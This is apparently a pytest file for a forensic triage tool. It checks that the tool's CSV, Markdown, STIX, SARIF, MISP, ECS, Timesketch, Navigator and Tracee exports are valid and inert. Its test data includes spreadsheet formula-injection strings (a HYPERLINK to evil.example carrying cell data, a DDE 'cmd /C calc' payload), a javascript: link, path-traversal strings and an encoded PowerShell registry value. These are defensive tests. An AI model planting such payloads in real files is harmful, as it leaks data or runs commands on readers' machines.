"""The exports keep their formats: each is read back by its own library or specification."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from collections.abc import Iterator
from datetime import datetime
from typing import Any
from urllib.parse import unquote_to_bytes, urljoin

import pytest

from tests.conftest import FIXTURES
from tests.report.sample_reports import (
    PAYLOADS,
    blind,
    clean,
    finding,
    hostile,
    hostile_mixture,
    implant,
    infected,
    report,
    rewritten,
)
from triage.cli.options import FORMATS as OFFERED
from triage.model import Clue, Coverage, Gap, Host, Location, Report, Severity, Subject, Why
from triage.report import FORMATS, json_report, render, times
from triage.report.csv_report import COLUMNS
from triage.report.markdown_report import code


def catalogue() -> Report:
    """Every kind of subject there is: the example of each indicator, judged."""
    from tests.builders import snapshot
    from triage.analyze import analyze
    from triage.snapshot import decode_record

    subjects: dict[str, Subject] = {}
    for path in sorted((FIXTURES / "indicators").glob("*/fires.jsonl")):
        lines_of = path.read_text("ascii").splitlines()
        records: Any = [decode_record(json.loads(line)) for line in lines_of]
        artifacts = [each for each in records if not isinstance(each, Gap | Coverage | Host)]
        for subject in analyze(snapshot(*artifacts)).subjects:
            subjects.setdefault(subject.id, subject)
    return report(tuple(subjects.values()), "critical")


REPORTS = {
    "catalogue": catalogue(),
    "infected": infected(),
    "clean": clean(),
    "blind": blind(),
    "mixture": hostile_mixture(),
    **{f"payload-{number}": hostile(payload) for number, payload in enumerate(PAYLOADS)},
}
any_report = pytest.mark.parametrize("made", REPORTS.values(), ids=REPORTS.keys())
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1",
    "'=1", '"=1', '=HYPERLINK("http://evil.example/"&A1,"x")', "x;=1+1", 'x";=1+1',
    "x; \"+cmd|' /C calc'!A0",
)  # fmt: skip


def lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def alarming(made: Report) -> list[Subject]:
    return [subject for subject in made.subjects if subject.benign is None]


def ids_are_unique(made: Report) -> bool:
    """As in every real report; where a test made all texts alike they are not."""
    return len({subject.id for subject in made.subjects}) == len(made.subjects)


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def test_the_command_line_offers_every_format() -> None:
    assert tuple(FORMATS) == OFFERED


@pytest.mark.parametrize(
    "name", ["stix", "navigator", "ecs", "timesketch", "sarif", "misp", "tracee"]
)
@any_report
def test_what_exports_show_has_no_hidden_character(name: str, made: Report) -> None:
    """After a reader took the JSON apart: nothing waits behind an escape."""
    for line in render(name, made).splitlines() if name in LINES else [render(name, made)]:
        for each in strings(json.loads(line)):
            assert all(part.isprintable() or part == "\n" for part in each)


LINES = {"ecs", "timesketch", "tracee"}


@pytest.mark.parametrize("name", [name for name in FORMATS if name not in ("terminal", "html")])
def test_times_that_are_none_break_nothing(name: str) -> None:
    for odd in ("", "yesterday", "2026-01-01T00:00:00", "9999-12-31T23:59:59-14:00", "0001-01-01"):
        made = dataclasses.replace(infected(), collected_at=odd, generated_at=odd)
        assert render(name, made)


# --- jsonl ----------------------------------------------------------------------------------


@any_report
def test_jsonl_is_the_json_report_in_lines(made: Report) -> None:
    whole = json_report.document(made)
    first, *rest = lines(render("jsonl", made))
    assert first.pop("record") == "report"
    found: dict[str, list[Any]] = {"subject": [], "gap": [], "coverage": [], "indicator": []}
    for record in rest:
        found[record.pop("record")].append(record)
    lists = {"subjects": "subject", "gaps": "gap", "coverage": "coverage"}
    again = first | {key: found[name] for key, name in lists.items()}
    assert again | {"indicators": found["indicator"]} == whole


# --- csv ------------------------------------------------------------------------------------


def table(made: Report) -> list[dict[str, str]]:
    found = list(csv.reader(io.StringIO(render("csv", made), newline="")))
    assert all(len(row) == len(COLUMNS) for row in found)
    assert tuple(found[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in found[1:]]


@any_report
def test_csv_has_a_row_for_each_finding(made: Report) -> None:
    assert len(table(made)) == sum(max(1, len(each.findings)) for each in made.subjects)


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_are_never_formulas(formula: str) -> None:
    """However it is split: at commas, as written, or at semicolons, as half of Europe reads it."""
    text = render("csv", hostile(formula))
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), (delimiter, cell)


def test_csv_keeps_ordinary_text_and_numbers() -> None:
    row = table(infected())[0]
    assert row["title"] == infected().subjects[0].title
    assert (row["pid"], row["score"], row["severity"]) == ("4242", "100", "critical")
    assert "=" not in row["subject"]
    judged = [row for row in table(infected()) if row["judged_benign"]]
    assert {row["pid"] for row in judged} >= {"900"}


def test_csv_shows_a_subject_without_findings() -> None:
    bare = dataclasses.replace(infected().subjects[0], findings=())
    assert table(report((bare,), "critical"))[0]["indicator"] == ""


# --- markdown -------------------------------------------------------------------------------

ALLOWED = {"h1", "h2", "p", "ul", "li", "code", "strong", "em"}


def parsed(text: str) -> list[Any]:
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    return [each for token in tokens for each in (token, *(token.children or ()))]


@any_report
def test_markdown_has_no_markup_of_the_evidence(made: Report) -> None:
    tokens = parsed(render("markdown", made))
    kinds = {token.type for token in tokens}
    assert not kinds & {"html_block", "html_inline", "link_open", "image", "fence", "code_block"}
    assert {token.tag for token in tokens if token.nesting == 1} <= ALLOWED
    assert len([token for token in tokens if token.type == "heading_open"]) <= 4 + len(
        alarming(made)
    )


MARKUP = (
    "`", "``", "a`b", "`a", "a`", " `` ", " ", "  ", " a", "a ", "a|b", "\\`", "[x](javascript:1)",
    "![](http://e/x.png)", "<b>", "www.evil.example", "@everyone", "#1", "~~~", "***",
    "a\\", "&lt;",
)  # fmt: skip


@pytest.mark.parametrize("value", MARKUP)
def test_markdown_code_holds_exactly_the_text(value: str) -> None:
    inline = [token for token in parsed(f"- x {code(value)} y") if token.type == "code_inline"]
    assert [token.content for token in inline] == [value]


def test_markdown_bounds_gaps_and_counts_the_rest() -> None:
    gaps = tuple(Gap(Location(f"/proc/{pid}"), Why.DENIED) for pid in range(100))
    text = render("markdown", dataclasses.replace(clean(), gaps=gaps))
    assert text.count("- denied: `") == 20
    assert "- denied: 80 more" in text


def registry_value() -> Subject:
    """A payload in a value of the Registry."""
    facts = (
        ("hive", "/Users/bob/NTUSER.DAT"), ("hive_kind", "user"), ("key", "HKU\\bob\\Software\\X"),
        ("value", "payload"), ("last_write", "2026-02-03T04:05:06Z"), ("type", "REG_SZ"),
        ("text", "powershell -enc AAAA"),
    )  # fmt: skip
    return dataclasses.replace(
        infected().subjects[1], id="registry_value-1", kind="registry_value", facts=facts
    )


def test_registry_values_have_their_own_fields() -> None:
    made = report((registry_value(),), "high")
    key = next(each for each in bundle(made).objects if each.type == "windows-registry-key")
    assert key.key == "HKEY_USERS\\bob\\Software\\X"
    assert (key["values"][0].name, key["values"][0].data_type) == ("payload", "REG_SZ")
    alert = lines(render("ecs", made))[1]
    assert alert["event"]["category"] == ["registry"]
    assert alert["registry"]["path"] == "HKU\\bob\\Software\\X\\payload"
    [thing] = event(made).objects
    assert thing.name == "registry-key"
    timeline = lines(render("timesketch", made))
    assert {each["timestamp_desc"] for each in timeline if each["subject"]} >= {"Last write"}


# --- stix -----------------------------------------------------------------------------------


def bundle(made: Report) -> Any:
    import stix2

    return stix2.parse(render("stix", made), allow_custom=False, version="2.1")


@any_report
def test_stix_is_valid(made: Report) -> None:
    objects = bundle(made).objects
    ids = [each.id for each in objects]
    assert len(set(ids)) == len(ids)
    for each in objects:
        for name in [key for key in each if key.endswith(("_ref", "_refs"))]:
            value = each[name]
            assert set(value if isinstance(value, list) else [value]) <= set(ids), name


def test_stix_tells_of_everything_that_is_not_benign() -> None:
    objects = bundle(infected()).objects
    kinds = [each.type for each in objects]
    bad = alarming(infected())
    assert kinds.count("observed-data") == kinds.count("note") == len(bad)
    techniques = {
        each.external_references[0].external_id for each in objects if each.type == "attack-pattern"
    }
    assert techniques == {
        name for each in bad for f in each.findings if not f.attested for name in f.techniques
    }
    ties = {each.relationship_type for each in objects if each.type == "relationship"}
    assert ties == {"executes", "started", "based-on"}


def hashes_to_search_for(made: Report) -> tuple[set[str], set[str]]:
    """As STIX has them in patterns, and MISP marks them."""
    from stix2patterns.validator import run_validator

    patterns = [each.pattern for each in bundle(made).objects if each.type == "indicator"]
    for pattern in patterns:
        assert run_validator(pattern, stix_version="2.1") == []
    marked = {row.value for found in event(made).objects for row in found.attributes if row.to_ids}
    return {pattern.split("'")[3] for pattern in patterns}, marked


def test_a_copy_of_a_program_on_the_disk_is_searched_for_nowhere() -> None:
    """The memory file of an implant and that of a plain ``sleep``: every box has the second."""
    process, file, shell = implant()
    digest = dict(process.facts)["sha256"]
    found = hashes_to_search_for(report((process, file, shell), "critical"))
    assert found == ({digest}, {digest})
    copied = dataclasses.replace(file, facts=(*file.facts, ("twins", "/usr/bin/sleep")))
    assert hashes_to_search_for(report((process, copied, shell), "critical")) == (set(), set())
    mild = tuple(dataclasses.replace(e, severity=Severity.MEDIUM) for e in (process, file, shell))
    assert hashes_to_search_for(report(mild, "medium")) == (set(), set())


@any_report
def test_every_pattern_to_search_for_is_one(made: Report) -> None:
    patterns, marked = hashes_to_search_for(made)
    assert patterns == marked


def test_stix_identifiers_of_observables_are_those_of_other_tools() -> None:
    """The same file gets the id that the stix2 library makes, so that they meet in a database."""
    import stix2

    objects = [*bundle(infected()).objects, *bundle(report((registry_value(),), "high")).objects]
    assert {"directory", "windows-registry-key"} <= {each.type for each in objects}
    for each in objects:
        if each.type in ("file", "directory", "windows-registry-key"):
            given = {key: value for key, value in each.items() if key not in ("id", "spec_version")}
            again = stix2.parse({**given, "spec_version": "2.1"}, version="2.1")
            assert again.id == each.id


def test_stix_identifiers_depend_on_the_box() -> None:
    other = dataclasses.replace(
        infected(), host=dataclasses.replace(infected().host, hostname="web-04")
    )
    of = {name: {each.id for each in bundle(made).objects if each.type == "observed-data"}
          for name, made in (("one", infected()), ("other", other))}  # fmt: skip
    assert not of["one"] & of["other"]


# --- navigator ------------------------------------------------------------------------------

#: layers/spec/v4.5/layerformat.md of the ATT&CK Navigator, as far as this export goes.
NAVIGATOR = {
    "type": "object",
    "additionalProperties": False,
    "required": ["name", "domain", "versions"],
    "properties": {
        "name": {"type": "string"},
        "description": {"type": "string"},
        "domain": {"enum": ["enterprise-attack", "mobile-attack", "ics-attack"]},
        "versions": {
            "type": "object",
            "required": ["navigator", "layer"],
            "additionalProperties": False,
            "properties": {
                "attack": {"type": "string"},
                "navigator": {"type": "string", "pattern": r"^(4\.9|[5-9])\."},
                "layer": {"const": "4.5"},
            },
        },
        "sorting": {"enum": [0, 1, 2, 3]},
        "hideDisabled": {"type": "boolean"},
        "layout": {
            "type": "object",
            "additionalProperties": False,
            "properties": {
                "layout": {"enum": ["side", "flat", "mini"]},
                "showID": {"type": "boolean"},
                "expandedSubtechniques": {"enum": ["none", "all", "annotated"]},
            },
        },
        "techniques": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["techniqueID"],
                "additionalProperties": False,
                "properties": {
                    "techniqueID": {"type": "string", "pattern": r"^T\d{4}(\.\d{3})?$"},
                    "comment": {"type": "string"},
                    "enabled": {"type": "boolean"},
                    "score": {"type": "number"},
                    "showSubtechniques": {"type": "boolean"},
                    "metadata": {"$ref": "#/$defs/metadata"},
                },
            },
        },
        "gradient": {
            "type": "object",
            "required": ["colors", "minValue", "maxValue"],
            "additionalProperties": False,
            "properties": {
                "colors": {"type": "array", "minItems": 2, "items": {"pattern": "^#[0-9a-f]{6}$"}},
                "minValue": {"type": "number"},
                "maxValue": {"type": "number"},
            },
        },
        "metadata": {"$ref": "#/$defs/metadata"},
    },
    "$defs": {
        "metadata": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name", "value"],
                "additionalProperties": False,
                "properties": {"name": {"type": "string"}, "value": {"type": "string"}},
            },
        }
    },
}


@any_report
def test_navigator_layers_are_valid(made: Report) -> None:
    import jsonschema

    jsonschema.Draft202012Validator(NAVIGATOR).validate(json.loads(render("navigator", made)))


@pytest.mark.parametrize("made", [infected(), clean(), hostile_mixture()])
def test_navigator_layers_load_in_mitres_own_reader(made: Report) -> None:
    navlayers = pytest.importorskip("mitreattack.navlayers")
    layer = navlayers.Layer(init_data=json.loads(render("navigator", made)), strict=True)
    assert layer.to_dict()["domain"] == "enterprise-attack"


def test_navigator_scores_are_of_the_worst_and_benign_has_none() -> None:
    rows = {
        row["techniqueID"]: row for row in json.loads(render("navigator", infected()))["techniques"]
    }
    assert rows["T1620"]["score"] == 100
    assert rows["T1027.013"]["score"] == 78
    java = next(each for each in infected().subjects if each.benign is not None)
    alone = json.loads(render("navigator", report((java,), "info")))["techniques"]
    assert alone
    assert all("score" not in row and "benign" in row["comment"] for row in alone)


# --- ecs ------------------------------------------------------------------------------------

#: What this export may say at the top (ECS field reference 8.17), and its own name space.
ECS = {
    "@timestamp", "ecs", "observer", "host", "message", "event", "rule", "threat", "tags", "log",
    "process", "file", "registry", "related", "triage",
}  # fmt: skip


@any_report
def test_ecs_alerts_have_their_fields(made: Report) -> None:
    run, *alerts = lines(render("ecs", made))
    assert run["event"]["kind"] == "event"
    assert len(alerts) == sum(len(each.findings) for each in made.subjects)
    if ids_are_unique(made):
        assert len({alert["event"]["id"] for alert in alerts}) == len(alerts)
    for alert in alerts:
        assert set(alert) <= ECS
        assert alert["event"]["kind"] == "alert"
        assert isinstance(alert["event"]["severity"], int)
        datetime.fromisoformat(alert["@timestamp"])
        for child in (
            alert.get("threat", {}).get("technique", {}).get("subtechnique", {}).get("id", [])
        ):
            assert child.partition(".")[0] in alert["threat"]["technique"]["id"]


def test_ecs_alerts_name_process_technique_and_hash() -> None:
    alert = next(
        each for each in lines(render("ecs", infected()))[1:] if each["rule"]["id"] == "exe-memfd"
    )
    assert alert["process"]["pid"] == 4242
    assert alert["process"]["parent"] == {"pid": 4100}
    assert alert["threat"]["technique"]["id"] == ["T1620", "T1027"]
    assert alert["threat"]["technique"]["subtechnique"]["name"] == ["Fileless Storage"]
    assert alert["related"]["hash"] == [alert["process"]["hash"]["sha256"]]
    assert alert["host"]["name"] == "web-03"


# --- timesketch -----------------------------------------------------------------------------


@any_report
def test_timesketch_lines_have_the_mandatory_fields(made: Report) -> None:
    events = lines(render("timesketch", made))
    assert events == sorted(events, key=lambda each: each["datetime"])
    for event in events:
        assert event["message"] is not None
        assert event["timestamp_desc"]
        moment = datetime.fromisoformat(event["datetime"])
        assert round(moment.timestamp() * 1_000_000) == event["timestamp"]
        for value in strings(event):
            assert len(value.encode()) < 32_766
    seen = [event for event in events if event["timestamp_desc"] == "Seen by triage"]
    assert len(seen) == len(made.subjects)


def test_timesketch_has_a_line_for_each_time_of_a_subject() -> None:
    file = dataclasses.replace(
        infected().subjects[1],
        facts=(("mtime_ns", 1_772_000_000_123_456_789), ("created", "2026-02-01T10:00:00+02:00"),
               ("comm", "2026-01-01T00:00:00Z"), ("modified", "not a time")),
    )  # fmt: skip
    events = lines(render("timesketch", report((file,), "high")))
    found = {event["timestamp_desc"]: event["datetime"] for event in events if event["subject"]}
    assert found == {
        "Content modification": "2026-02-25T06:13:20.123456+00:00",
        "Creation": "2026-02-01T08:00:00.000000+00:00",
        "Seen by triage": "2026-03-01T03:12:45.000000+00:00",
    }


def test_timesketch_takes_a_list_of_times_apart() -> None:
    listed = "2024-05-11T17:57:49Z file made ($MFT); 2024-05-12T00:00:00Z run (Prefetch); odd one"
    subject = dataclasses.replace(
        infected().subjects[1], facts=(("times", listed), ("first", "2024-05-11T17:57:49Z"))
    )
    events = lines(render("timesketch", report((subject,), "high")))
    found = {
        event["timestamp_desc"]: event["datetime"][:10] for event in events if event["subject"]
    }
    assert found == {
        "File made ($MFT)": "2024-05-11", "Run (Prefetch)": "2024-05-12",
        "Seen by triage": "2026-03-01",
    }  # fmt: skip


def test_times_at_the_edges() -> None:
    assert times.of_nanoseconds(10**30) is None
    assert times.utc("0001-01-01T00:00:00+14:00") is None
    assert times.utc("x" * 1000) is None
    assert times.rfc3339(times.EPOCH) == "1970-01-01T00:00:00.000Z"


# --- sarif ----------------------------------------------------------------------------------


def sarif_types() -> dict[str, str]:
    """What class of the object model a property of SARIF holds, for those this export writes."""
    return {
        "runs": "Run", "tool": "Tool", "driver": "ToolComponent", "rules": "ReportingDescriptor",
        "shortDescription": "MultiformatMessageString", "message": "Message", "results": "Result",
        "defaultConfiguration": "ReportingConfiguration",
        "automationDetails": "RunAutomationDetails",
        "invocations": "Invocation", "toolExecutionNotifications": "Notification",
        "locations": "Location", "physicalLocation": "PhysicalLocation",
        "artifactLocation": "ArtifactLocation", "logicalLocations": "LogicalLocation",
        "suppressions": "Suppression",
    }  # fmt: skip


FREE = {"properties", "partialFingerprints", "originalUriBaseIds"}


def check_sarif(value: Any, model: str) -> None:
    """Only properties that the object model has, and all that it demands."""
    import attr
    import sarif_om

    fields = attr.fields_dict(getattr(sarif_om, model))
    names = {each.metadata["schema_property_name"]: each for each in fields.values()}
    assert set(value) <= set(names), (model, set(value) - set(names))
    demanded = {name for name, each in names.items() if each.default is attr.NOTHING}
    assert demanded <= set(value), model
    for name, item in value.items():
        if name in FREE:
            assert isinstance(item, dict)
        elif isinstance(item, dict | list):
            for each in item if isinstance(item, list) else [item]:
                check_sarif(each, sarif_types()[name])


@any_report
def test_sarif_has_the_object_model(made: Report) -> None:
    log = json.loads(render("sarif", made))
    assert log["version"] == "2.1.0"
    check_sarif(log, "SarifLog")
    run = log["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert len({rule["id"] for rule in rules}) == len(rules)
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("error", "warning", "note")
        assert 0 <= result["rank"] <= 100
        assert result["message"]["text"]
    for notification in run["invocations"][0]["toolExecutionNotifications"]:
        assert notification["message"]["text"]


def uris(made: Report) -> Iterator[str]:
    run = json.loads(render("sarif", made))["runs"][0]
    base = run["originalUriBaseIds"]["ROOT"]["uri"]
    for result in run["results"]:
        for place in result["locations"]:
            if "physicalLocation" in place:
                yield urljoin(base, place["physicalLocation"]["artifactLocation"]["uri"])


@pytest.mark.parametrize(
    "path",
    ["/../../etc/passwd", "//evil.example/x", "http://evil.example/", "/a/../b", "javascript:1",
     "/dev/shm/a b#c?d%20\udcff", "\\\\evil\\x", "/./x", "..", "C:/x"],
)  # fmt: skip
def test_sarif_places_stay_below_the_root(path: str) -> None:
    made = rewritten(infected(), lambda text: text)
    subject = made.subjects[0]
    moved = tuple(dataclasses.replace(each, location=Location(path)) for each in subject.findings)
    bent = dataclasses.replace(
        made, subjects=(dataclasses.replace(subject, findings=moved),), root_path="/mnt/evidence"
    )
    for uri in uris(bent):
        assert uri.startswith("file:///mnt/evidence/")
        assert "/../" not in uri
    if path.startswith("/dev"):
        found = {unquote_to_bytes(uri) for uri in uris(bent)}
        assert found == {b"file:///mnt/evidence" + path.encode("utf-8", "surrogatepass")}


def test_sarif_suppresses_what_is_judged_benign_with_the_reason() -> None:
    results = json.loads(render("sarif", infected()))["runs"][0]["results"]
    attested = [each for each in results if "suppressions" in each]
    assert {each["properties"]["subject"] for each in attested} >= {"process-900"}
    assert all(each["suppressions"][0]["justification"] for each in attested)


def test_sarif_messages_have_no_links() -> None:
    results = json.loads(render("sarif", hostile("[x](http://evil.example)")))["runs"][0]["results"]
    for each in results:
        assert not re.search(r"(?<!\\)\[", each["message"]["text"])


# --- misp -----------------------------------------------------------------------------------


def event(made: Report) -> Any:
    import pymisp

    found = pymisp.MISPEvent()
    found.from_dict(**json.loads(render("misp", made)))
    return found


@any_report
def test_misp_events_load_and_say_the_same_again(made: Report) -> None:
    loaded = event(made)
    assert not loaded.published
    assert len(loaded.objects) == len(alarming(made))
    uuids = [each.uuid for each in loaded.attributes]
    uuids += [each.uuid for found in loaded.objects for each in (found, *found.attributes)]
    assert len(set(uuids)) == len(uuids) or not ids_are_unique(made)
    for found in loaded.objects:
        assert all(each.value not in (None, "") for each in found.attributes)
        assert found.attributes
    json.loads(loaded.to_json())


@pytest.mark.parametrize("name", ["infected", "catalogue"])
def test_misp_objects_follow_their_templates(name: str) -> None:
    from importlib.resources import files

    import pymisp

    templates = files(pymisp) / "data" / "misp-objects" / "objects"
    for found in event(REPORTS[name]).objects:
        page = json.loads((templates / found.name / "definition.json").read_text("utf-8"))
        assert found.template_uuid == page["uuid"]
        assert int(found.template_version) <= page["version"]
        assert found["meta-category"] == page["meta-category"]
        known = {row.object_relation for row in found.attributes if row.object_relation}
        extra = set() if found.name == "file" else {"sha256", "text"}
        assert known <= set(page["attributes"]) | extra
        assert known & set(page["requiredOneOf"])


def test_misp_detects_by_hashes_of_the_bad_alone() -> None:
    for found in event(infected()).objects:
        for row in found.attributes:
            assert row.to_ids == (row.type == "sha256")
    mild = dataclasses.replace(infected().subjects[0], severity=Severity.MEDIUM)
    for found in event(report((mild,), "medium")).objects:
        assert not any(row.to_ids for row in found.attributes)


@pytest.mark.parametrize(
    ("kind", "value", "type_"),
    [("ip", "203.0.113.7", "ip-dst"), ("ip", "2001:db8::1", "ip-dst"), ("ip", "999.1.1.1", "text"),
     ("ip", "203.0.113.7:80", "text"), ("domain", "evil.example", "domain"),
     ("domain", "not a domain", "text"), ("domain", "x", "text"), ("url", "http://e/", "url"),
     ("api", "memfd_create", "text")],
)  # fmt: skip
def test_misp_types_clues_as_a_server_takes_them(kind: str, value: str, type_: str) -> None:
    first = infected().subjects[0]
    assert first.content is not None
    content = dataclasses.replace(first.content, clues=(Clue(kind, value),))
    made = report((dataclasses.replace(first, content=content),), "critical")
    found = [row for each in event(made).objects for row in each.attributes if row.value == value]
    assert [row.type for row in found] == [type_]


# --- tracee ---------------------------------------------------------------------------------


def test_tracee_tells_what_trc_105_would_have_seen() -> None:
    (found,) = lines(render("tracee", infected()))
    assert list(found)[:5] == ["timestamp", "id", "name", "workload", "threat"]
    assert found["name"] == "fileless_execution"
    assert found["workload"]["process"]["executable"] == {"path": "memfd:kworker/u:0"}
    assert found["workload"]["process"]["host_pid"] == 4242
    assert found["threat"]["severity"] == 3
    assert found["threat"]["mitre"]["technique"] == {
        "id": "T1620", "name": "Reflective Code Loading",
    }  # fmt: skip
    assert {"name": "pathname", "str": "memfd:kworker/u:0"} in found["detected_from"]["data"]
    signature = found["SigMetadata"]
    assert (signature["ID"], signature["EventName"]) == ("TRC-105", "fileless_execution")
    assert signature["Properties"]["Severity"] == 3
    assert signature["Properties"]["Category"] == "defense-evasion"
    assert signature["Properties"]["Technique"] == "Reflective Code Loading"
    assert signature["Properties"]["external_id"] == "T1620"
    argument = found["Context"]["args"][0]
    assert argument == {"name": "pathname", "type": "const char*", "value": "memfd:kworker/u:0"}


@pytest.mark.parametrize(
    ("exe", "seen"),
    [("/memfd:x (deleted)", "memfd:x"), ("/dev/shm/x", "/dev/shm/x"), ("/run/shm/x (deleted)",
     "/run/shm/x"), ("/usr/bin/x", None), ("/mnt/dev/shm/x", None), ("/DEV/SHM/x", None)],
)  # fmt: skip
def test_tracee_uses_the_predicate_of_trc_105(exe: str, seen: str | None) -> None:
    subject = dataclasses.replace(
        infected().subjects[0],
        facts=(("exe", exe), ("pid", 2**40), ("exe_dev", "0:25"), ("exe_inode", 7)),
        findings=(finding("exe-in-shm", "x", Severity.HIGH, "x"),),
    )
    found = lines(render("tracee", report((subject,), "high")))
    assert [each["workload"]["process"]["executable"]["path"] for each in found] == (
        [] if seen is None else [seen]
    )
    for each in found:
        assert "host_pid" not in each["workload"]["process"]
        data = {row["name"]: row for row in each["detected_from"]["data"]}
        assert data["dev"] == {"name": "dev", "u_int32": 25}
        assert data["inode"] == {"name": "inode", "u_int64": "7"}


def test_tracee_keeps_benign_matches_and_says_so() -> None:
    runc = next(each for each in infected().subjects if each.benign is not None)
    bent = dataclasses.replace(
        runc, kind="process", facts=(("exe", "/memfd:runc_cloned (deleted)"),)
    )
    (found,) = lines(render("tracee", report((bent,), "info")))
    assert found["threat"]["properties"]["x_triage_benign"]
